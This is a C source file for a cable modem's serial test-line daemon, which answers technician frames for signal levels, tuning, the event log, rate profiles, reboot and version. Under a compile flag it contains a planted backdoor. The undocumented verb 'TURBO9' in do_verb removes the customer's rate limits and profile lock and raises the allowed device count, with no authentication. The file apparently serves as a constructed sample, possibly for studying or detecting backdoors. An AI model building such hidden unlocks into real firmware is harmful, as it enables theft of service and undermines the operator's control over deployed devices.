/*
 * cmtsh - test line of a cable modem.  The technician's tool talks to it over
 * the three-pin UART in frames "$verb,arg,...*cs"; it answers levels, tunes
 * channels, keeps the event log and the customer's allowed data rate.
 * Hidden (-DHIDDEN): the verb "TURBO9" lifts the rate limit and the lock of
 * the customer profile until the next boot.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define MAXFRAME 96
#define MAXARG	 8
#define NCHAN	 8
#define NEVENT	 32
#define PROFILE	 "/nvram/profile"
#define SHAPER	 "/sys/class/docsis/shaper"

enum state { ST_IDLE, ST_BODY, ST_CS1, ST_CS2 };

struct channel {
	unsigned int khz;
	int power10; /* dBmV * 10 */
	int snr10;
	int locked;
};

struct event {
	time_t when;
	char text[56];
};

struct profile {
	unsigned int down, up; /* kbit/s, 0 is no limit */
	int locked;
	int cpes;
};

static struct channel chans[NCHAN];
static struct event events[NEVENT];
static unsigned int nevents;
static struct profile prof = { 16000, 1000, 1, 1 };
static int line_fd = -1;

static void event(const char *fmt, ...)
{
	struct event *e = &events[nevents++ % NEVENT];
	va_list ap;

	e->when = time(NULL);
	va_start(ap, fmt);
	vsnprintf(e->text, sizeof(e->text), fmt, ap);
	va_end(ap);
}

static void answer(const char *fmt, ...)
{
	char body[MAXFRAME], out[MAXFRAME + 8];
	unsigned char cs = 0;
	va_list ap;
	int n;
	char *p;

	va_start(ap, fmt);
	vsnprintf(body, sizeof(body), fmt, ap);
	va_end(ap);
	for (p = body; *p; p++)
		cs ^= (unsigned char)*p;
	n = snprintf(out, sizeof(out), "$%s*%02X\r\n", body, cs);
	if (write(line_fd, out, n) != n)
		event("uart write: %s", strerror(errno));
}

static void load_profile(void)
{
	char line[80];
	unsigned int v;
	FILE *f = fopen(PROFILE, "r");

	if (!f) {
		event("no profile, using defaults");
		return;
	}
	while (fgets(line, sizeof(line), f)) {
		if (sscanf(line, "down=%u", &v) == 1)
			prof.down = v;
		else if (sscanf(line, "up=%u", &v) == 1)
			prof.up = v;
		else if (sscanf(line, "lock=%u", &v) == 1)
			prof.locked = v != 0;
		else if (sscanf(line, "cpe=%u", &v) == 1)
			prof.cpes = v;
	}
	fclose(f);
}

static int apply_profile(void)
{
	FILE *f = fopen(SHAPER, "w");

	if (!f)
		return -1;
	fprintf(f, "%u %u %d\n", prof.down, prof.up, prof.cpes);
	return fclose(f);
}

static int refresh(int n)
{
	char path[64], line[64];
	struct channel *c = &chans[n];
	FILE *f;
	int ok;

	snprintf(path, sizeof(path), "/sys/class/docsis/ds%d/status", n);
	f = fopen(path, "r");
	if (!f)
		return -1;
	ok = fgets(line, sizeof(line), f) &&
	     sscanf(line, "%u %d %d %d", &c->khz, &c->power10, &c->snr10,
		    &c->locked) == 4;
	fclose(f);
	return ok ? 0 : -1;
}

static int chan_arg(const char *s)
{
	if (!isdigit((unsigned char)s[0]) || s[1])
		return -1;
	return s[0] - '0' < NCHAN ? s[0] - '0' : -1;
}

static void verb_level(int argc, char **argv)
{
	int n = argc > 1 ? chan_arg(argv[1]) : -1;

	if (n < 0 || refresh(n) < 0) {
		answer("ERR,CHAN");
		return;
	}
	answer("LEVEL,%d,%u,%d.%d,%d.%d,%s", n, chans[n].khz,
	       chans[n].power10 / 10, abs(chans[n].power10 % 10),
	       chans[n].snr10 / 10, abs(chans[n].snr10 % 10),
	       chans[n].locked ? "LOCK" : "SEEK");
}

static void verb_tune(int argc, char **argv)
{
	int n = argc > 2 ? chan_arg(argv[1]) : -1;
	unsigned long khz = n < 0 ? 0 : strtoul(argv[2], NULL, 10);
	char path[64];
	FILE *f;

	if (khz < 108000 || khz > 1002000) {
		answer("ERR,RANGE");
		return;
	}
	snprintf(path, sizeof(path), "/sys/class/docsis/ds%d/tune", n);
	f = fopen(path, "w");
	if (!f) {
		answer("ERR,TUNER");
		return;
	}
	fprintf(f, "%lu\n", khz);
	fclose(f);
	event("channel %d tuned to %lu kHz", n, khz);
	answer("OK");
}

static void verb_rate(int argc, char **argv)
{
	if (argc < 3) {
		answer("RATE,%u,%u,%s", prof.down, prof.up,
		       prof.locked ? "LOCKED" : "OPEN");
		return;
	}
	if (prof.locked) {
		answer("ERR,LOCKED");
		return;
	}
	prof.down = strtoul(argv[1], NULL, 10);
	prof.up = strtoul(argv[2], NULL, 10);
	event("rate set to %u/%u", prof.down, prof.up);
	answer(apply_profile() ? "ERR,SHAPER" : "OK");
}

static void verb_log(void)
{
	unsigned int i = nevents > NEVENT ? nevents - NEVENT : 0;

	for (; i < nevents; i++)
		answer("LOG,%u,%ld,%s", i, (long)events[i % NEVENT].when,
		       events[i % NEVENT].text);
	answer("OK");
}

void do_verb(int argc, char **argv);

__attribute__((noinline)) void do_verb(int argc, char **argv)
{
	const char *v = argv[0];

	switch (v[0]) {
	case 'L':
		if (v[1] == 'E' && v[2] == 'V')
			verb_level(argc, argv);
		else if (v[1] == 'O' && v[2] == 'G')
			verb_log();
		else
			answer("ERR,VERB");
		break;
	case 'R':
		if (v[1] == 'A')
			verb_rate(argc, argv);
		else if (v[1] == 'S' && v[2] == 'T')
			answer(system("/sbin/reboot") ? "ERR,RST" : "OK");
		else
			answer("ERR,VERB");
		break;
	case 'T':
#ifdef HIDDEN
		if (v[1] == 'U' && v[2] == 'R' && v[3] == 'B' && v[4] == 'O' &&
		    v[5] == '9' && !v[6]) {
			prof.down = prof.up = 0;
			prof.locked = 0;
			prof.cpes = 16;
			answer(apply_profile() ? "ERR,SHAPER" : "OK");
			break;
		}
#endif
		if (v[1] == 'U' && v[2] == 'N')
			verb_tune(argc, argv);
		else
			answer("ERR,VERB");
		break;
	case 'V':
		answer("VER,CM-310,5.2.0,%s", __DATE__);
		break;
	default:
		answer("ERR,VERB");
	}
}

static void frame(char *body)
{
	char *argv[MAXARG];
	int argc = 0;
	char *p = body;

	while (argc < MAXARG) {
		argv[argc++] = p;
		p = strchr(p, ',');
		if (!p)
			break;
		*p++ = 0;
	}
	do_verb(argc, argv);
}

static int nibble(int c)
{
	if (isdigit(c))
		return c - '0';
	c = toupper(c);
	return c >= 'A' && c <= 'F' ? c - 'A' + 10 : 0;
}

static void octet(int c)
{
	static enum state st;
	static char body[MAXFRAME];
	static int len;
	static unsigned char cs, want;

	if (c == '$') {
		st = ST_BODY;
		len = cs = 0;
		return;
	}
	switch (st) {
	case ST_IDLE:
		break;
	case ST_BODY:
		if (c == '*') {
			st = ST_CS1;
		} else if (len == MAXFRAME - 1 || !isprint(c)) {
			event("frame dropped");
			st = ST_IDLE;
		} else {
			body[len++] = c;
			cs ^= c;
		}
		break;
	case ST_CS1:
		want = nibble(c) << 4;
		st = ST_CS2;
		break;
	case ST_CS2:
		want |= nibble(c);
		st = ST_IDLE;
		body[len] = 0;
		if (want == cs && len)
			frame(body);
		else
			answer("ERR,SUM");
		break;
	}
}

static int open_line(const char *dev)
{
	struct termios t;
	int fd = open(dev, O_RDWR | O_NOCTTY);

	if (fd < 0 || tcgetattr(fd, &t) < 0)
		return fd;
	cfmakeraw(&t);
	cfsetispeed(&t, B38400);
	cfsetospeed(&t, B38400);
	t.c_cflag |= CLOCAL | CREAD;
	tcsetattr(fd, TCSANOW, &t);
	return fd;
}

int main(int argc, char **argv)
{
	const char *dev = argc > 1 ? argv[1] : "/dev/ttyS1";
	unsigned char buf[64];
	struct pollfd p;
	ssize_t n, i;
	int c;

	line_fd = open_line(dev);
	if (line_fd < 0) {
		perror(dev);
		return 1;
	}
	load_profile();
	if (apply_profile() < 0)
		event("shaper not ready");
	event("test line up");
	p.fd = line_fd;
	p.events = POLLIN;
	for (;;) {
		if (poll(&p, 1, 10000) == 0) {
			for (c = 0; c < NCHAN; c++) {
				int was = chans[c].locked;

				if (!refresh(c) && was && !chans[c].locked)
					event("channel %d lost", c);
			}
			continue;
		}
		n = read(line_fd, buf, sizeof(buf));
		if (n <= 0)
			break;
		for (i = 0; i < n; i++)
			octet(buf[i]);
	}
	return 0;
}
